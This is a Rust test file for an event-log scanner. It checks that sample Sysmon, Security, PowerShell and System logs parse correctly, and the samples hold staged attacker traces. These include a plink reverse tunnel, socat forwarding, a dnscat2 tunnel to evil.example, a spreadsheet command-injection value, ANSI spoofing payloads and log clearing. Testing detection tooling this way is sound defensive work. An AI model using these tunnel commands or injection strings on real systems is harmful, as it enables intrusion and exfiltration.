//! The committed samples read back through the project's reader and normalizer with the values
//! `docs/EVTXGEN.md` promises, at the record ids it names.

use evtxscan::discover::LogFile;
use evtxscan::event::Event;
use evtxscan::read::{read_log, ChunkState, FileControl, ReadOptions};
use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Mutex;

/// Read one committed sample: its events by record id, and its chunk states.
fn read_sample(name: &str) -> (BTreeMap<u64, Event>, Vec<ChunkState>) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("samples")
        .join(name);
    let size = std::fs::metadata(&path).expect("sample exists").len();
    let seen = Mutex::new(Vec::new());
    let report = read_log(
        &LogFile { path, size },
        &ReadOptions::default(),
        &FileControl::default(),
        &|events| seen.lock().unwrap().extend(events),
    );
    assert!(report.fatal.is_none(), "{name}: {:?}", report.fatal);
    assert!(!report.truncated && !report.dirty, "{name}");
    let events = seen
        .into_inner()
        .unwrap()
        .into_iter()
        .map(|e| (e.record_id, e))
        .collect();
    (events, report.chunks)
}

fn get(ev: &Event, field: &str) -> String {
    ev.get_str(field)
        .unwrap_or_else(|| panic!("record {} has no {field}", ev.record_id))
        .into_owned()
}

#[test]
fn every_sample_reads_without_damage() {
    for (name, records, chunks) in [
        ("Microsoft-Windows-Sysmon%4Operational.evtx", 70, 2),
        ("Security.evtx", 13, 1),
        ("Microsoft-Windows-PowerShell%4Operational.evtx", 8, 1),
        ("System.evtx", 9, 1),
    ] {
        let (events, states) = read_sample(name);
        assert_eq!(states, vec![ChunkState::Ok; chunks], "{name}");
        assert_eq!(events.len(), records, "{name}");
        assert_eq!(
            events.keys().copied().collect::<Vec<_>>(),
            (1..=records as u64).collect::<Vec<_>>(),
            "{name}: record ids run from 1 without gaps"
        );
    }
}

#[test]
fn sysmon_process_creation_and_lineage() {
    let (events, _) = read_sample("Microsoft-Windows-Sysmon%4Operational.evtx");
    let plink = &events[&17];
    assert_eq!(plink.event_id, 1);
    assert_eq!(&*plink.channel, "Microsoft-Windows-Sysmon/Operational");
    assert_eq!(&*plink.provider, "Microsoft-Windows-Sysmon");
    assert_eq!(&*plink.computer, "WS01.corp.example");
    assert_eq!(&*plink.user_id, "S-1-5-18");
    assert_eq!(plink.level, 4);
    assert_eq!(get(plink, "Image"), "C:\\Users\\bob\\Downloads\\plink.exe");
    assert!(get(plink, "CommandLine").contains(" -R 4444:127.0.0.1:3389 "));
    assert_eq!(get(plink, "User"), "CORP\\bob");
    assert_eq!(get(plink, "RuleName"), "-");
    assert_eq!(get(plink, "Execution_ProcessID"), "2968");
    assert_eq!(get(plink, "Version"), "5");

    // explorer (1) → cmd (11) → powershell (12) → plink (17), by GUID and by PID.
    let chain = [1u64, 11, 12, 17];
    let images = [
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Users\\bob\\Downloads\\plink.exe",
    ];
    for (id, image) in chain.iter().zip(images) {
        assert_eq!(get(&events[id], "Image"), image);
    }
    for pair in chain.windows(2) {
        let (parent, child) = (&events[&pair[0]], &events[&pair[1]]);
        assert_eq!(get(child, "ParentProcessGuid"), get(parent, "ProcessGuid"));
        assert_eq!(get(child, "ParentProcessId"), get(parent, "ProcessId"));
        assert_eq!(get(child, "ParentImage"), get(parent, "Image"));
        assert!(get(child, "ProcessGuid").starts_with('{'));
    }
    assert_eq!(
        get(&events[&12], "ProcessGuid"),
        "{7A1D2C3B-2A31-6668-4101-000000002E00}"
    );
    assert_eq!(get(&events[&12], "ProcessId"), "6248");
    assert_eq!(
        get(&events[&11], "ParentCommandLine"),
        "C:\\Windows\\Explorer.EXE"
    );
    assert_eq!(
        get(&events[&11], "CommandLine"),
        "\"C:\\Windows\\system32\\cmd.exe\" "
    );

    // Hits and near misses by image.
    for (id, image) in [
        (20, "C:\\Tools\\socat.exe"),
        (21, "C:\\Temp\\iodine.exe"),
        (22, "C:\\Users\\bob\\dnscat2\\dnscat2.exe"),
        (23, "C:\\Tools\\plinkx.exe"),
        (24, "C:\\Tools\\iodined.exe"),
        (25, "C:\\Windows\\System32\\notepad.exe"),
    ] {
        assert_eq!(events[&id].event_id, 1);
        assert_eq!(get(&events[&id], "Image"), image, "record {id}");
    }
    assert!(get(&events[&25], "CommandLine").ends_with("\\dnscat2.txt"));
    assert_eq!(&*events[&20].computer, "WS02.corp.example");
    // Output-safety payloads, kept exactly as logged (ESC included).
    assert_eq!(
        get(&events[&20], "CommandLine"),
        "socat.exe TCP-LISTEN:8443,fork TCP:10.20.30.40:443 \u{1b}[31mALL CLEAR\u{1b}[0m"
    );
    assert!(get(&events[&21], "CommandLine").ends_with(" =cmd|' /C calc'!A0"));
}

#[test]
fn sysmon_header_time_differs_from_time_created() {
    let (events, _) = read_sample("Microsoft-Windows-Sysmon%4Operational.evtx");
    let dnscat = &events[&22];
    assert_eq!(dnscat.time.to_string(), "2024-06-11T08:04:06.4226162Z");
    assert_eq!(
        dnscat.header_time.to_string(),
        "2024-06-11T13:04:06.4226162Z"
    );
    assert_eq!(get(dnscat, "UtcTime"), "2024-06-11 08:04:06.422");
    // Everywhere else the two agree.
    for (id, ev) in &events {
        if *id != 22 {
            assert_eq!(ev.time, ev.header_time, "record {id}");
        }
    }
}

#[test]
fn sysmon_dns_queries() {
    let (events, _) = read_sample("Microsoft-Windows-Sysmon%4Operational.evtx");
    let powershell_guid = get(&events[&12], "ProcessGuid");
    for (id, query) in [
        (14, "pastebin.com"),
        (15, "pastebin.com"),
        (16, "api.telegram.org"),
    ] {
        let ev = &events[&id];
        assert_eq!(ev.event_id, 22);
        assert_eq!(get(ev, "QueryName"), query);
        assert_eq!(get(ev, "ProcessGuid"), powershell_guid);
        assert_eq!(
            get(ev, "Image"),
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        );
        assert_eq!(get(ev, "QueryStatus"), "0");
    }
    // The two pastebin lookups group together (same stats-by fields).
    for field in [
        "Image",
        "QueryName",
        "QueryStatus",
        "QueryResults",
        "Computer",
    ] {
        assert_eq!(
            get(&events[&14], field),
            get(&events[&15], field),
            "{field}"
        );
    }
    assert_eq!(get(&events[&27], "Image"), "C:\\Users\\Public\\updater.exe");
    assert_eq!(get(&events[&27], "QueryName"), "cdn.discordapp.com");
    assert_eq!(
        get(&events[&28], "Image"),
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
    );
    assert_eq!(get(&events[&28], "QueryName"), "pastebin.com");
    assert_eq!(get(&events[&29], "QueryName"), "www.example.com");
    assert_eq!(get(&events[&29], "Image"), "C:\\Users\\Public\\updater.exe");
}

#[test]
fn security_process_creation() {
    let (events, _) = read_sample("Security.evtx");
    let plink = &events[&5];
    assert_eq!(plink.event_id, 4688);
    assert_eq!(&*plink.channel, "Security");
    assert_eq!(&*plink.provider, "Microsoft-Windows-Security-Auditing");
    assert_eq!(&*plink.computer, "SRV01.corp.example");
    assert_eq!(plink.level, 0);
    assert_eq!(&*plink.user_id, "", "Security events carry no UserID");
    assert_eq!(get(plink, "NewProcessName"), "C:\\Tools\\plink.exe");
    assert_eq!(get(plink, "NewProcessId"), "0x1a2b");
    assert_eq!(get(plink, "ProcessId"), "0x1f40");
    assert_eq!(get(plink, "SubjectUserName"), "admin01");
    assert_eq!(get(plink, "SubjectDomainName"), "CORP");
    assert_eq!(get(plink, "MandatoryLabel"), "S-1-16-12288");
    assert_eq!(get(plink, "TokenElevationType"), "%%1937");
    assert_eq!(
        get(plink, "ParentProcessName"),
        "C:\\Windows\\System32\\cmd.exe"
    );
    assert_eq!(get(plink, "Keywords"), "0x8020000000000000");
    assert_eq!(get(&events[&7], "NewProcessName"), "C:\\Tools\\plinkx.exe");
    assert_eq!(get(&events[&8], "NewProcessName"), "C:\\Tools\\stunnel.exe");
    assert_eq!(get(&events[&8], "NewProcessId"), "0x1c4d");
    // Trailing spaces survive.
    assert_eq!(get(&events[&2], "LogonProcessName"), "User32 ");
    assert_eq!(get(&events[&2], "LogonType"), "10");
    // 1102: UserData leaves.
    let cleared = &events[&10];
    assert_eq!(cleared.event_id, 1102);
    assert_eq!(&*cleared.provider, "Microsoft-Windows-Eventlog");
    assert_eq!(get(cleared, "SubjectUserName"), "admin01");
    assert_eq!(get(cleared, "SubjectLogonId"), "0x1b2f4a");
}

#[test]
fn powershell_script_blocks() {
    let (events, _) = read_sample("Microsoft-Windows-PowerShell%4Operational.evtx");
    for (n, id) in [(1, 3u64), (2, 4), (3, 5)] {
        let ev = &events[&id];
        assert_eq!(ev.event_id, 4104);
        assert_eq!(&*ev.channel, "Microsoft-Windows-PowerShell/Operational");
        assert_eq!(get(ev, "MessageNumber"), n.to_string());
        assert_eq!(get(ev, "MessageTotal"), "3");
        assert_eq!(
            get(ev, "ScriptBlockId"),
            "{3C9F51E2-7D0A-4B6E-9A41-5F2E8C7D1B90}"
        );
        let has = get(ev, "ScriptBlockText")
            .to_ascii_lowercase()
            .contains("start-dnscat2");
        assert_eq!(has, n == 2, "part {n}");
        assert_eq!(&*ev.user_id, "S-1-5-21-3623811015-3361044348-30300820-1013");
        assert_eq!(
            get(ev, "Correlation_ActivityID"),
            "{0f6e3a2b-9c41-0003-84d2-6e0f2b9cda01}"
        );
    }
    assert!(get(&events[&4], "ScriptBlockText").contains("Start-Dnscat2 -Domain evil.example\r\n"));
    assert_eq!(events[&4].level, 3);
    assert_eq!(events[&3].level, 5);
    let module = &events[&6];
    assert_eq!(module.event_id, 4103);
    assert!(get(module, "Payload").contains("Start-Dnscat2"));
    assert_eq!(get(module, "UserData"), "");
    assert_eq!(
        get(&events[&8], "Path"),
        "C:\\Users\\bob\\Documents\\Backup.ps1"
    );
    assert_eq!(get(&events[&1], "Path"), "");
}

#[test]
fn system_services_and_unnamed_data() {
    let (events, _) = read_sample("System.evtx");
    let psexec = &events[&3];
    assert_eq!(psexec.event_id, 7045);
    assert_eq!(&*psexec.provider, "Service Control Manager");
    assert_eq!(get(psexec, "ServiceName"), "PSEXESVC");
    assert_eq!(get(psexec, "ImagePath"), "%SystemRoot%\\PSEXESVC.exe");
    assert_eq!(get(psexec, "EventID_Qualifiers"), "16384");
    assert_eq!(
        get(psexec, "Provider_EventSourceName"),
        "Service Control Manager"
    );
    assert_eq!(
        get(&events[&5], "ImagePath"),
        "C:\\Users\\Public\\updater.exe -service"
    );
    let cleared = &events[&8];
    assert_eq!(cleared.event_id, 104);
    assert_eq!(
        cleared.get_all("Channel").collect::<Vec<_>>(),
        vec!["System"]
    );
    assert_eq!(get(cleared, "SubjectUserName"), "admin01");
    assert_eq!(get(cleared, "BackupPath"), "");
    let uptime = &events[&1];
    assert_eq!(uptime.event_id, 6013);
    let unnamed: Vec<&str> = uptime.get_all("Data").collect();
    assert_eq!(
        unnamed,
        vec![
            "",
            "",
            "",
            "",
            "86412",
            "60",
            "0 Coordinated Universal Time"
        ]
    );
}
